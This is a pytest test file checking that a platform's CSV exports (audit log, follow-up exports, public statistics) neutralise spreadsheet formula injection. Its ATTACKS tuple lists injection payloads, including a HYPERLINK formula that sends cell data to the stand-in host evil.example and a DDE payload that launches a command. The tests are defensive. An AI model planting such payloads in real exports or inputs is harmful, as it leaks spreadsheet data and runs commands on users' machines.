"""CSV injection: text someone typed (an alias, a reason, a unit id, a place name) never reaches a spreadsheet as a
formula, in every CSV the platform writes: the audit log, the follow-up exports and the public statistics."""

import csv
import io
from datetime import UTC, datetime

import pytest

from relais_shared import audit
from relais_shared.csv_export import neutralise, render
from relais_stats.public import statistics_lines
from tests.abuse.test_export_clearance import followup  # noqa: F401 - the fixture
from tests.followup.conftest import token
from tests.followup.helpers import add_entry

ATTACKS = ("=HYPERLINK(\"http://evil.example/?\"&A1)", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\t=1+1", "\r=1+1")


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_inert(text: str) -> None:
    for cell in cells(text):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_formula_starts_are_neutralised_and_the_rest_left_alone():
    for attack in ATTACKS:
        assert neutralise(attack) == "'" + attack
    assert [neutralise(v) for v in ("Rennes", "35", "", None, -3, 2.5, "a=b")] == ["Rennes", "35", "", None, -3,
                                                                                      2.5, "a=b"]
    assert cells(render(["n"], [[-3]])) == ["n", "-3"], "a number is not a formula"


def test_the_audit_csv_is_inert():
    row = {"id": 1, "at": datetime.now(UTC), "actor_sub": "@sub", "actor_alias": ATTACKS[0], "actor_force": "GN",
           "actor_roles": ["auditor"], "action": "report.level_raised", "object_type": "report",
           "object_id": "-1", "reason": ATTACKS[1], "details": {"from": "blue"}}
    exported = audit.to_csv([row] + [{**row, "reason": attack} for attack in ATTACKS])
    assert_inert(exported)
    assert f"'{ATTACKS[0]}" in cells(exported)


def test_the_public_statistics_csv_is_inert():
    body = {"period": "2026-10", "departments": [
        {"code": "35", "name": "=1+1", "counts": {"domestic_violence": 12, "rape": None}},
        {"code": "-1", "name": "@Ille", "counts": {"domestic_violence": 3}}]}
    exported = statistics_lines(body)
    assert_inert(exported)
    assert "'=1+1" in cells(exported) and "12" in cells(exported)


@pytest.mark.integration
async def test_the_follow_up_export_is_inert(followup):  # noqa: F811
    app, client = followup
    headers = token(app.state.cell.settings)
    entry = await add_entry(client, headers, risk_level="high", unit_id=ATTACKS[0])
    claim = (await client.post("/v1/departments/35/claim-next", headers=headers)).json()["claimed"]
    closed = await client.post(f"/v1/entries/{entry['id']}/close", headers=headers,
                               json={"claim_id": claim["claim_id"], "outcome": "wrong_number"})
    assert closed.status_code == 200, closed.text
    today = datetime.now(UTC).date().isoformat()
    export = await client.get(f"/v1/exports/outcomes.csv?department=35&from={today}&to={today}", headers=headers)
    assert export.status_code == 200 and f"'{ATTACKS[0]}" in cells(export.text)
    assert_inert(export.text)
